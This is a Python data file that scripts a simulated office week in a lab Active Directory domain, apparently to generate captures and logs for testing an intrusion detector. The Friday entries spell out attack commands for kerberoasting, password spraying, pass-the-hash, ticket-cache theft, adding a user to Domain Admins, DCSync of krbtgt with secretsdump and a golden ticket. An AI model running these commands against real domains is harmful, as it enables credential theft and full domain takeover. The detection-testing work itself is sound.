"""The story of the sample estate as data: which file holds which steps, when each step happens in the story's week,
and what a detector should make of it. `week_run.py` plays it live; `compose-week` moves the clock.

A file:   name     of the capture and of its audit logs
          title    one line for people
          expect   slugs that must fire, may: slugs that may fire too (both empty = an ordinary day)
          steps    [(time of day, node, shell command)]; {placeholders} as in scenarios.py, and
                   {s0}.. {q0}.. = sAMAccountName and password of the cast (24 regular users of the Paris, Berlin and Zürich offices)
          before   [(node, shell command)] outside of the capture
          verify   [(what, tshark display filter, minimum number of frames)]
Files and steps are in the order of time, in the story as in the lab: a connection or a ticket that outlives a step
never runs backwards.
"""
DAYS = {"mon": "2026-11-09", "tue": "2026-11-10", "wed": "2026-11-11", "thu": "2026-11-12", "fri": "2026-11-13"}
DIRECTORY_AT = "2026-11-09T06:40:00Z"  # when the story's directory snapshot was taken
DOMAIN_BORN_AT = "2026-06-01T08:00:00Z"  # creation of what the lab created while it was set up
CAST = 24
FILES = []


def host(i):
    """Even members of the cast work on ws1, odd ones on ws2."""
    return "ws%d" % (1 + i % 2)


def cache(account):
    return "export KRB5CCNAME=FILE:$HOME/../tmp/cc.%s; " % account


def boot(at, node):
    """A workstation starts: machine account logon, location of the DC, Group Policy from SYSVOL."""
    name = node.upper()
    return (at, node, cache(name) + "echo 'M@chine-%s-01' | kinit '%s$'; dig @{dc} +short _ldap._tcp.dc._msdcs.{dns} SRV; "
            "smbclient --use-krb5-ccache=$KRB5CCNAME //dc1.{dns}/sysvol -c 'ls {dns}/Policies/*'" % (name, name))


def logon(at, i, password=None):
    """Morning logon of a member of the cast: TGT, file server; the ticket cache lives until the evening."""
    return (at, host(i), cache("{s%d}" % i) + "echo '%s' | kinit {s%d} && smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c 'ls; get report.txt got.txt'"
            % (password or "{q%d}" % i, i))


def intranet(at, i):
    return (at, host(i), cache("{s%d}" % i) + "dig @{dc} +short intranet.{dns}; kvno -q HTTP/intranet.{dns}")


def database(at, i):
    """An RC4 service ticket that is nobody's attack: svc_sql has no AES type set, its users ask for it one at a time."""
    return (at, host(i), cache("{s%d}" % i) + "kvno -q MSSQLSvc/srv1.{dns}:1433")


def save(at, i, name):
    return (at, host(i), cache("{s%d}" % i) + "date > $HOME/note.txt; smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c \"put $HOME/note.txt %s; ls\"" % name)


def address_book(at, i, j):
    return (at, host(i), cache("{s%d}" % i) + "ldapsearch -Q -Y GSSAPI -N -LLL -H ldap://dc1.{dns} -b '{base}' '(sAMAccountName={s%d})' cn mail telephoneNumber" % j)


def address_book_tls(at, i, j):
    return (at, host(i), "LDAPTLS_REQCERT=never ldapsearch -x -LLL -H ldaps://dc1.{dns} -D '{s%d}@{dns}' -w '{q%d}' -b '{base}' '(mail={s%d}@{dns})' cn telephoneNumber" % (i, i, j))


def by_address(at, i):
    """A drive mapped by address: NTLM, as Kerberos has no name to ask for."""
    return (at, host(i), "smbclient //{srv}/share -U 'LAB\\{s%d}%%{q%d}' -c 'ls'" % (i, i))


def names(at, node, *what):
    return (at, node, "for n in %s; do dig @{dc} +short $n.{dns} A; done" % " ".join(what))


def sync(at):
    """The directory synchronisation on srv1: svc_sync's only habit."""
    return (at, "srv1", cache("svc_sync") + "echo '{pw_svc_sync}' | kinit svc_sync && ldapsearch -Q -Y GSSAPI -N -LLL -H ldap://dc1.{dns} -b 'OU=Groups,OU=Corp,{base}' '(&(objectClass=group)(cn=GG*))' cn whenChanged")


def service_start(at):
    return (at, "srv1", cache("svc_sql") + "echo '{pw_svc_sql}' | kinit svc_sql && kvno -q ldap/dc1.{dns}")


def admin_logon(at):
    return (at, "ws2", cache("adm.bruno") + "echo '{pw_adm_bruno}' | kinit adm.bruno && smbclient --use-krb5-ccache=$KRB5CCNAME //dc1.{dns}/sysvol -c ls")


def helpdesk(at, i):
    return (at, "ws2", "rpcclient {dc} -U 'LAB\\helpdesk.hana%%{pw_helpdesk_hana}' -c 'lookupnames {s%d}; queryuser {s%d}'" % (i, i))


def helpdesk_logon(at):
    return (at, "ws2", cache("helpdesk.hana") + "echo '{pw_helpdesk_hana}' | kinit helpdesk.hana && smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c ls")


def ian(at):
    return (at, "ws1", cache("intern.ian") + "echo '{pw_intern_ian}' | kinit intern.ian && smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c 'ls; get report.txt got.txt'")


def ian_intranet(at):
    return (at, "ws1", cache("intern.ian") + "dig @{dc} +short intranet.{dns}; kvno -q HTTP/intranet.{dns}")


def capture(day, name, title, steps, expect=(), may=(), verify=(), **more):
    FILES.append(dict(day=DAYS[day], first_of_day=not any(f["day"] == DAYS[day] for f in FILES), name="%s-%s" % (DAYS[day], name), title=title, steps=steps, expect=list(expect), may=list(may), verify=list(verify), **more))


AS_REP, TGS_REQ, TGS_REP = "kerberos.msg_type == 11", "kerberos.msg_type == 12", "kerberos.msg_type == 13"
# What an honest week still shows: a domain admin on a workstation, RC4 tickets of svc_sql. Both are true findings.
HYGIENE = ["tier-violation", "weak-protocol"]
WORKDAY = [("logons", AS_REP, 8), ("service tickets", TGS_REP, 8), ("file server", "smb2.cmd == 3 && ip.dst == 10.77.0.30", 6)]

# ------------------------------------------------------------------------------- Monday to Thursday: an honest week
capture("mon", "monday", "an ordinary Monday; a new colleague is created by the administrator", [
    service_start("07:02:11"), sync("07:15:03"), boot("07:41:37", "ws1"), boot("07:49:12", "ws2"),
    ("07:55:20", "srv1", "wbinfo -t; wbinfo -n 'LAB\\{s0}'; net ads testjoin; net ads dns register -P srv1.{dns} {srv}"),
    logon("08:04:51", 0), logon("08:11:18", 1), logon("08:17:43", 2), intranet("08:19:02", 0), helpdesk_logon("08:21:30"),
    ("08:26:09", "ws2", cache("{s3}") + "echo 'Oops-{q3}' | kinit {s3}; echo '{q3}' | kinit {s3} && smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c ls"),
    logon("08:31:55", 4), ian("08:38:14"), logon("08:44:26", 5), logon("08:52:40", 6), admin_logon("08:58:03"),
    intranet("09:03:47", 4), ian_intranet("09:10:22"), logon("09:14:09", 7), by_address("09:26:31", 8), database("09:37:58", 4), address_book("09:48:13", 2, 9),
    ("10:12:35", "ws2", "samba-tool user create nora.new 'Fresh-Pass-2026' --given-name=Nora --surname=New -H ldap://dc1.{dns} -U 'adm.bruno%{pw_adm_bruno}'"),
    ("10:15:08", "ws2", "samba-tool group addmembers Wifi nora.new -H ldap://dc1.{dns} -U 'adm.bruno%{pw_adm_bruno}'"),
    names("10:40:00", "ws1", "dc1", "srv1", "intranet", "mail", "vpn"), save("11:02:44", 0, "monday-plan.txt"), address_book_tls("11:31:19", 6, 3),
    save("13:36:05", 5, "offer-0911.txt"), helpdesk("14:05:52", 3), database("14:41:17", 6), intranet("15:20:28", 7), by_address("16:04:36", 1),
], may=HYGIENE, verify=WORKDAY)

capture("tue", "tuesday", "an ordinary Tuesday; a password change, maintenance of DNS, bruno logs on to srv1", [
    sync("07:15:04"), boot("07:44:02", "ws1"), boot("07:46:58", "ws2"),
    logon("08:02:10", 8), logon("08:09:33", 9), helpdesk_logon("08:14:45"), logon("08:16:21", 0), logon("08:23:57", 10), logon("08:29:36", 3),
    ian("08:35:48"), logon("08:41:12", 11), logon("08:47:50", 2), admin_logon("08:55:27"), intranet("09:01:16", 8), logon("09:08:39", 12),
    ("09:20:04", "ws2", cache("{s5}") + "echo '{q5}' | kinit {s5}; printf '{q5}\\nChanged-1-{q5}\\nChanged-1-{q5}\\n' | kpasswd {s5}; echo 'Changed-1-{q5}' | kinit {s5}"),
    ian_intranet("09:33:11"), database("09:51:45", 12), by_address("10:05:29", 2),
    ("10:22:16", "ws2", "samba-tool dns add dc1.{dns} {dns} print A 10.77.0.99 -U 'adm.bruno%{pw_adm_bruno}'"),
    ("10:31:40", "ws2", "rpcclient {dc} -U 'LAB\\adm.bruno%{pw_adm_bruno}' -c 'srvinfo; querydominfo; getdompwinfo'"),
    ("11:05:53", "srv1", cache("adm.bruno") + "echo '{pw_adm_bruno}' | kinit adm.bruno && smbclient --use-krb5-ccache=$KRB5CCNAME //dc1.{dns}/netlogon -c ls"),
    address_book("11:26:34", 10, 14), save("11:48:07", 8, "minutes-1011.txt"), names("13:10:22", "ws2", "intranet", "mail", "print"), helpdesk("13:42:59", 11),
    save("14:19:31", 9, "stock.txt"), address_book_tls("15:03:08", 0, 7), intranet("15:47:46", 11), by_address("16:22:15", 3),
], may=HYGIENE, verify=WORKDAY)

capture("wed", "wednesday", "an ordinary Wednesday; the new colleague's first day, one mistyped password", [
    sync("07:15:02"), boot("07:39:25", "ws1"), boot("07:52:31", "ws2"),
    logon("08:01:42", 14), logon("08:07:19", 15), logon("08:13:54", 0), logon("08:20:08", 1), helpdesk_logon("08:22:37"), logon("08:28:46", 16),
    ian("08:33:29"), logon("08:39:05", 4), logon("08:45:33", 17), admin_logon("08:57:12"),
    ("09:04:50", "ws1", cache("nora.new") + "echo 'Fresh-Pass-2026' | kinit nora.new && smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c ls"),
    intranet("09:12:27", 14), ian_intranet("09:25:13"),
    ("09:40:18", "ws2", "smbclient //{srv}/share -U 'LAB\\{s11}%oops' -c ls; smbclient //{srv}/share -U 'LAB\\{s11}%{q11}' -c ls"),
    database("10:02:36", 4), address_book("10:28:01", 16, 1), ("10:55:44", "ws2", "samba-tool group addmembers 'VPN Users' nora.new -H ldap://dc1.{dns} -U 'adm.bruno%{pw_adm_bruno}'"),
    save("11:17:20", 15, "draft-3.txt"), names("11:40:09", "ws1", "dc1", "intranet", "mail"), helpdesk("13:21:48", 16), by_address("13:58:32", 4),
    address_book_tls("14:26:55", 17, 0), save("14:59:13", 14, "table.txt"), intranet("15:34:40", 1), by_address("16:11:07", 15),
], may=HYGIENE, verify=WORKDAY)

capture("thu", "thursday", "an ordinary Thursday; a password change over SMB, bruno on srv1 again", [
    sync("07:15:05"), boot("07:43:51", "ws1"), boot("07:50:16", "ws2"),
    logon("08:03:28", 18), logon("08:10:02", 19), logon("08:15:37", 2), logon("08:21:49", 3), helpdesk_logon("08:24:11"), logon("08:30:23", 20),
    ian("08:36:57"), logon("08:42:40", 5, "Changed-1-{q5}"), logon("08:49:18", 21), admin_logon("08:56:44"), intranet("09:02:35", 18), logon("09:11:06", 6),
    ("09:29:52", "ws2", "printf '{q9}\\nChanged-1-{q9}\\nChanged-1-{q9}\\n' | smbpasswd -s -r {dc} -U {s9}"),
    ian_intranet("09:36:30"), database("09:55:21", 6), by_address("10:13:47", 18),
    ("10:34:29", "ws2", "net rpc password {s22} 'Reset-By-Admin-1' -S dc1.{dns} -U 'LAB\\adm.bruno%{pw_adm_bruno}'"),
    ("10:47:08", "ws1", cache("{s22}") + "echo 'Reset-By-Admin-1' | kinit {s22} && smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c ls"),
    ("11:09:15", "srv1", cache("adm.bruno") + "echo '{pw_adm_bruno}' | kinit adm.bruno && smbclient --use-krb5-ccache=$KRB5CCNAME //dc1.{dns}/netlogon -c ls; net ads testjoin"),
    address_book("11:35:58", 20, 8), save("11:54:26", 18, "review.txt"), helpdesk("13:33:41", 20), names("14:02:17", "ws2", "intranet", "vpn"),
    address_book_tls("14:38:04", 2, 5), save("15:06:39", 19, "figures-q4.txt"), intranet("15:41:25", 21), by_address("16:17:53", 20),
], may=HYGIENE, verify=WORKDAY)

# ------------------------------------------------------------------------------- Friday: the intrusion, hop by hop
capture("fri", "01-morning", "an ordinary Friday morning; intern.ian starts work on ws1", [
    sync("07:15:03"), boot("07:42:08", "ws1"), boot("07:48:44", "ws2"),
    logon("08:05:16", 0), logon("08:12:39", 1), logon("08:18:05", 8), helpdesk_logon("08:23:20"), logon("08:27:51", 3),
    ian("08:41:02"), logon("08:47:24", 5, "Changed-1-{q5}"), logon("08:51:13", 12), admin_logon("08:58:36"), ian_intranet("09:02:49"), intranet("09:06:10", 8),
], may=HYGIENE, verify=[("logons", AS_REP, 8)])

capture("fri", "02-ldap-reconnaissance", "intern.ian's session on ws1 runs a directory collector: all objects with their security descriptors", [
    ("09:42:18", "ws1", "mkdir -p $HOME/bh && cd $HOME/bh && ADLAB_LDAP3_NTLM_AS_SIMPLE=1 bloodhound-python -u intern.ian -p {pw_intern_ian} -d {dns} -ns {dc} -dc dc1.{dns} -c DCOnly --auth-method ntlm; rm -rf $HOME/bh"),
], expect=["directory-enumeration"], may=["cleartext-credentials"], technique=["T1087.002", "T1069.002", "T1482"], account="intern.ian", source="ws1", target="dc1", max_frames=1500,
    verify=[("LDAP searches", "ldap.protocolOp == 3", 10), ("SD flags control", 'ldap.controlType == "1.2.840.113556.1.4.801"', 1)])

capture("fri", "03-kerberoasting", "service tickets of every account with an SPN, RC4 first, the honeytoken's too", [
    ("10:05:41", "ws1", "kerberoast_spn.py {dc} {realm} intern.ian {pw_intern_ian}"),
], expect=["kerberoasting"], may=["honeytoken-activity", "directory-enumeration", "encryption-downgrade", "cleartext-credentials", "weak-protocol"], technique=["T1558.003"], account="intern.ian", source="ws1", target="dc1",
    verify=[("TGS-REP with an RC4 ticket", TGS_REP + " && kerberos.etype == 23", 3)])

capture("fri", "04-session-enumeration", "who is logged on where: NetSessionEnum on the DC and on srv1", [
    ("10:31:27", "ws1", "netsession_enum.py LAB intern.ian {pw_intern_ian} {dc} {srv}"),
], expect=["smb-session-enumeration"], technique=["T1049"], account="intern.ian", source="ws1", target="dc1",
    verify=[("NetrSessionEnum", "srvsvc.opnum == 12", 2)])

capture("fri", "05-forenoon", "meanwhile, ordinary work", [
    database("10:44:33", 12), save("10:52:06", 0, "friday-plan.txt"), address_book("10:58:47", 8, 3), by_address("11:03:15", 1),
], may=HYGIENE, verify=[("SASL bind", "ldap.authentication == 3", 1)])

capture("fri", "06-password-spray", "one password for sixty accounts; none has it", [
    ("11:12:50", "ws1", "krb_preauth.py spray {dc} {realm} {wordlist_spray} 'Autumn2026!'"),
], expect=["password-spray"], may=["account-enumeration", "brute-force"], technique=["T1110.003"], account=None, source="ws1", target="dc1",
    verify=[("KDC_ERR_PREAUTH_FAILED", "kerberos.error_code == 24", 50), ("no success", AS_REP, -1)])

capture("fri", "07-service-account-logon", "svc_sql's password is out (cracked from its RC4 ticket): the service account logs on from ws1 to srv1", [
    ("11:47:22", "ws1", cache("svc_sql") + "echo '{pw_svc_sql}' | kinit svc_sql && smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c 'ls; get report.txt got.txt'"),
], may=["suspicious-logon", "attack-path-in-progress", "lateral-movement-path"], technique=["T1078.002", "T1021.002"], account="svc_sql", source="ws1", target="srv1",
    verify=[("AS-REP", AS_REP, 1)])

capture("fri", "08-pass-the-hash", "adm.bruno's NT hash, left on srv1, used from ws1 on srv1 and on the DC", [
    ("12:20:09", "ws1", "smbclient.py -hashes :{nt_adm_bruno} -inputfile {smbcmds} LAB/adm.bruno@{srv}"),
    ("12:22:31", "ws1", "smbclient.py -hashes :{nt_adm_bruno} -inputfile {smbcmds} LAB/adm.bruno@{dc}"),
], expect=["pass-the-hash"], may=["suspicious-logon", "attack-path-in-progress", "lateral-movement-path", "tier-violation"], technique=["T1550.002"], account="adm.bruno", source="ws1", target="srv1",
    verify=[("NTLM authenticate to srv1", "ntlmssp.messagetype == 3 && ip.dst == 10.77.0.30", 1), ("NTLM authenticate to the DC", "ntlmssp.messagetype == 3 && ip.dst == 10.77.0.10", 1)])

capture("fri", "09-pass-the-ticket", "adm.bruno logs on to ws2 after lunch; minutes later his TGT is used from ws1", [
    ("12:44:15", "ws2", cache("adm.bruno") + "echo '{pw_adm_bruno}' | kinit adm.bruno && kvno -q cifs/dc1.{dns} && smbclient --use-krb5-ccache=$KRB5CCNAME //dc1.{dns}/sysvol -c ls"),
    ("12:55:38", "ws1", "cp {lab}/nodes/ws2/tmp/cc.adm.bruno $HOME/stolen.ccache; export KRB5CCNAME=FILE:$HOME/stolen.ccache; kvno -q cifs/srv1.{dns} ldap/dc1.{dns} && smbclient --use-krb5-ccache=$KRB5CCNAME //srv1.{dns}/share -c ls"),
], expect=["pass-the-ticket"], may=["suspicious-logon", "attack-path-in-progress", "lateral-movement-path", "tier-violation"], technique=["T1550.003"], account="adm.bruno", source="ws1", target="dc1",
    verify=[("AS-REP to ws2", AS_REP + " && ip.dst == 10.77.0.22", 1), ("TGS-REQ from ws1", TGS_REQ + " && ip.src == 10.77.0.21", 2), ("no AS-REQ from ws1", "kerberos.msg_type == 10 && ip.src == 10.77.0.21", -1)])

capture("fri", "10-sensitive-group-change", "from ws1, as adm.bruno: intern.ian becomes a member of Domain Admins and Account Operators", [
    ("13:22:07", "ws1", "ldap_write.py {dc} adm.bruno@{dns} '{pw_adm_bruno}' add-member 'CN=Domain Admins,CN=Users,{base}' 'CN=Ian Intern,OU=Sales,OU=Paris,OU=Corp,{base}'"),
    ("13:24:40", "ws1", "net rpc group addmem 'Account Operators' intern.ian -S {dc} -U 'LAB\\adm.bruno%{pw_adm_bruno}'"),
], expect=["sensitive-group-change"], may=["exposure-increase", "suspicious-logon", "attack-path-in-progress", "cleartext-credentials", "tier-violation", "pass-the-hash"], technique=["T1098.007"], account="adm.bruno", source="ws1", target="dc1",
    verify=[("LDAP modify", "ldap.protocolOp == 6", 1), ("SamrAddMemberToAlias", "samr.opnum == 31 || samr.opnum == 22", 1)])

capture("fri", "11-dcsync", "svc_sync, whose job runs on srv1, asks the DC for krbtgt's keys from ws1", [
    ("13:45:33", "ws1", "secretsdump.py -just-dc-user LAB/krbtgt 'LAB/svc_sync:{pw_svc_sync}@{dc}' | sed -E 's/[0-9a-f]{{24,}}/.../g'"),
], expect=["malicious-replication"], may=["suspicious-logon", "attack-path-in-progress", "lateral-movement-path", "pass-the-hash"], technique=["T1003.006"], account="svc_sync", source="ws1", target="dc1",
    verify=[("DsGetNCChanges", "drsuapi.opnum == 3 && dcerpc.pkt_type == 0 && ip.src == 10.77.0.21", 1)])

capture("fri", "12-golden-ticket", "a TGT that no KDC issued opens the DC as Administrator", [
    ("14:18:56", "ws1", "ticketer.py -aesKey {aes_krbtgt} -domain-sid {sid} -domain {realm} -user-id 500 -extra-pac Administrator && export KRB5CCNAME=$PWD/Administrator.ccache && smbclient.py -k -no-pass -dc-ip {dc} -inputfile {smbcmds} {realm}/Administrator@dc1.{dns}"),
], expect=["golden-ticket-anomaly|golden-ticket-time-anomaly"], may=["golden-ticket-anomaly", "golden-ticket-time-anomaly", "pass-the-ticket", "suspicious-logon", "attack-path-in-progress", "lateral-movement-path", "tier-violation"],
    technique=["T1558.001"], account="Administrator", source="ws1", target="dc1",
    verify=[("TGS-REQ", TGS_REQ, 1), ("no AS-REQ", "kerberos.msg_type == 10", -1), ("Kerberos in SMB", "smb2 && kerberos.msg_type == 14", 1)])

capture("fri", "13-afternoon", "the office goes on", [
    intranet("14:36:12", 1), save("14:51:48", 8, "weekly.txt"), address_book("15:10:20", 0, 12), helpdesk("15:28:57", 5), by_address("16:02:34", 3),
], may=HYGIENE, verify=[("file server", "smb2.cmd == 3 && ip.dst == 10.77.0.30", 2)])

# What only the sign-in log shows (compose-week writes these rows); times are those of the rows.
SIGN_INS = [
    {"time": "2026-11-13T08:50:00Z", "file": "signins.csv", "act": "office-sign-in", "title": "intern.ian opens the mail from the Paris office", "expect": [], "may": [], "account": "intern.ian"},
    {"time": "2026-11-13T09:20:00Z", "file": "signins.csv", "act": "impossible-travel", "title": "the same account from Singapore, 10,700 km away, thirty minutes later (phished password)",
     "expect": ["impossible-travel"], "may": ["suspicious-vpn", "suspicious-logon"], "account": "intern.ian", "technique": ["T1078"]},
    {"time": "2026-11-13T09:27:00Z", "file": "signins.csv", "act": "vpn-from-abroad", "title": "a VPN session of intern.ian from the same address: a country, a network and a device that the account never used",
     "expect": ["suspicious-vpn|impossible-travel"], "may": ["suspicious-vpn", "impossible-travel", "suspicious-logon"], "account": "intern.ian", "technique": ["T1133"]},
    {"time": "2026-11-13T09:27:00Z", "file": "radius-accounting.txt", "act": "vpn-from-abroad", "title": "the same VPN session in the accounting records, which know the address but no place",
     "expect": [], "may": ["suspicious-vpn", "impossible-travel"], "account": "intern.ian", "technique": ["T1133"]},
]
